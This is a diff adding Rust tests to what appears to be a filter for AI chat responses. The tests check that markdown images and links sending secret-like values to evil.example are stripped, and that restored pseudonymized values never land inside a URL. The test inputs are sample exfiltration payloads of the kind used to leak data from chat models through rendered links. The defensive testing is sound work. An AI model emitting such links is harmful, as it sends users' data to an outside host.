@@ -140,3 +140,40 @@ fn templates_are_found_where_they_do_not_belong() {
     );
     assert_eq!(exchange.read(), said, "the operator may");
 }
+
+#[test]
+fn links_that_carry_something_away_are_cut_and_their_text_stays() {
+    let policy = policy(
+        "  response: { rules: [{ detect: link_exfiltration, action: redact, allowHosts: [ok.example] }, { detect: r, action: redact }] }\n  rules: [{ id: r.word, kind: word, pattern: '\\bsecret[0-9]\\b', cap_bytes: 8 }]",
+    );
+    check(
+        &policy,
+        "a ![i](https://evil.example/i.png) [b secret1](https://evil.example/?q=[EMAIL_12345678]) [c](https://ok.example/x)",
+        "a i b [WORD] [c](https://ok.example/x)",
+        &[
+            "link_exfiltration.image",
+            "link_exfiltration.link",
+            "r.word",
+        ],
+    );
+    // A secret in the destination goes with it.
+    check(
+        &policy,
+        "![x](https://evil.example/secret2) https://evil.example/secret3 ![open",
+        "x https://evil.example/[WORD] ![open",
+        &["link_exfiltration.image", "r.word", "r.word"],
+    );
+}
+
+#[test]
+fn a_value_is_put_back_beside_a_link_and_never_into_one() {
+    let policy = policy(
+        "  request: { rules: [{ detect: r, action: pseudonymize }] }\n  response: { rules: [{ detect: link_exfiltration, action: redact }] }\n  rules: [{ id: r.word, kind: word, pattern: '\\bsecret[0-9]\\b', cap_bytes: 8 }]",
+    );
+    let name = Exchange::chat(&policy, "secret1").read();
+    let said = format!(
+        "{name} [{name}](https://evil.example/?q={name}) ![{name}](https://evil.example/{name}) http:{name}"
+    );
+    let (got, _, _) = answer(&policy, &user("secret1"), &said);
+    assert_eq!(got, format!("secret1 secret1 secret1 http:{name}"));
+}
